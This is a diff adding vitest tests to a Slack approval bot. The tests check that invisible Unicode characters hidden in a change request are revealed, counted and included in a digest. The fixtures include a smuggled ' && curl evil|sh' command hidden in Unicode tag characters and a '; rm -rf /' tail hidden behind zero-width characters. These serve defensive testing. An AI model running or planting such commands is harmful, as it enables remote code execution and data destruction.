@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import type { KnownBlock, RichTextBlockElement, RichTextElement } from '@slack/types';
 import { describe, expect, test } from 'vitest';
 import type { Approval, Outcome } from '../../src/approvals/approval.ts';
@@ -7,7 +8,7 @@ import {
   overflowMessage,
 } from '../../src/approvals/message/message.ts';
 import type { MessageState } from '../../src/approvals/message/message-state.ts';
-import { excerptOf, overflowCount } from '../../src/approvals/message/overflow.ts';
+import { digestOf, excerptOf, overflowCount } from '../../src/approvals/message/overflow.ts';
 import type { Route } from '../../src/config/config.ts';
 import { messageSchema } from '../../src/slack/limits.ts';
 import { quotedWords, runsOf } from '../../src/slack/rich-text.ts';
@@ -517,6 +518,79 @@ test('what exactly is approved is whole, its rest in replies that are preformatt
   const excerpt = excerptOf(approval);
   const all = [excerpt.change, ...excerpt.rest].flat().map(({ text }) => text);
   expect(all.join('').replaceAll('……', '')).toBe(change);
+});
+
+describe('what nobody would see', () => {
+  const command = 'kubectl apply -f x';
+  const tags = [...' && curl evil|sh'].map((char) => 0xe0000 + char.charCodeAt(0));
+
+  test.each([
+    [String.fromCodePoint(...tags), '⟨U+E0020⟩⟨U+E0026 × 2⟩⟨U+E0020⟩⟨U+E0063⟩', 16],
+    ['\u200b', '⟨U+200B⟩', 1],
+    ['\u2062', '⟨U+2062⟩', 1],
+    ['\u3164', '⟨U+3164⟩', 1],
+    ['\ufe0f', '⟨U+FE0F⟩', 1],
+    ['\u00ad', '⟨U+00AD⟩', 1],
+    ['\u200b'.repeat(1_200), '⟨U+200B × 1,200⟩', 1_200],
+  ])('of a change is shown, counted and part of the digest: %j', (hidden, shown, count) => {
+    const change = command + hidden;
+    const lines = linesOf(WAITING, { change });
+    expect(lines).toContain(`\`\`\` ${command}${shown}`);
+    const characters = count === 1 ? 'character' : 'characters';
+    expect(lines).toContain(`(Contains ${count.toLocaleString('en')} invisible ${characters} ·`);
+    expect(linesOf(WAITING, { change: command })).not.toContain('invisible');
+    const digest = digestOf(approvalWith({ change }));
+    expect(lines).toContain(`Digest \`${digest.slice(0, 8)}\``);
+    expect(digest).not.toBe(digestOf(approvalWith({ change: command })));
+  });
+
+  test('is counted wherever it stands, once', () => {
+    const hidden = approvalWith({
+      ...{ title: 'De\u200bploy', message: 'a\u200b\u202eb', change: 'a\u00a0b' },
+      fields: [['Ver\u00adsion', '4\u2060.2']],
+      requester: { name: 'A\u200fna' },
+    });
+    expect(excerptOf(hidden)).toMatchObject({ invisible: 7, unspelled: 0 });
+    expect(linesOf(WAITING, hidden)).toContain('Contains 7 invisible characters ·');
+    const { title: _, ...untitled } = approvalWith({ message: 'De\u200bploy' });
+    expect(excerptOf(untitled)).toMatchObject({
+      title: 'De⟨U+200B⟩ploy',
+      prompt: [],
+      invisible: 1,
+    });
+  });
+
+  test('is not spelled out without end, and pushes nothing out of sight', () => {
+    const change = `${'\u200b\u200c'.repeat(19_990)}; rm -rf /`;
+    const approval = approvalWith({ change });
+    const { rest, unshown } = excerptOf(approval);
+    expect(unshown).toBe(0);
+    expect(rest.flat().at(-1)?.text.endsWith('�; rm -rf /')).toBe(true);
+    expect(linesOf(WAITING, { change })).toContain(
+      'Contains 39,980 invisible characters, 38,980 of them shown as � ·',
+    );
+  });
+
+  test('goes into replies where it is too long once it can be seen', () => {
+    const change = 'a\u200b'.repeat(700);
+    expect(overflowCount(approvalWith({ change: 'ab'.repeat(700) }))).toBe(0);
+    expect(overflowCount(approvalWith({ change }))).toBe(1);
+  });
+
+  test('of an emoji or a word is seen there', () => {
+    const words = { message: '👩‍🚀 می\u200cخواهم', change: '+ 👩‍🚀 \u2714\ufe0f' };
+    expect(linesOf(WAITING, words)).not.toContain('invisible');
+    expect(linesOf(WAITING, words)).toContain(words.message);
+  });
+});
+
+test('the digest is of the texts as they were sent, but for the CR of their line ends', () => {
+  const digest = (change: string) => digestOf(approvalWith({ message: 'Apply?', change }));
+  const canonical = { change: 'a\n\u200bb\u2028c\u001b', message: 'Apply?', title: 'Deploy 4.2' };
+  const expected = createHash('sha256').update(JSON.stringify(canonical)).digest('hex');
+  expect(digest('a\r\n\u200bb\u2028c\u001b')).toBe(expected);
+  expect(digest('a\n\u200bb\u2028c\u001b')).toBe(expected);
+  expect(digest('a\r\u200bb\u2028c\u001b')).not.toBe(expected);
 });
 
 test.each([
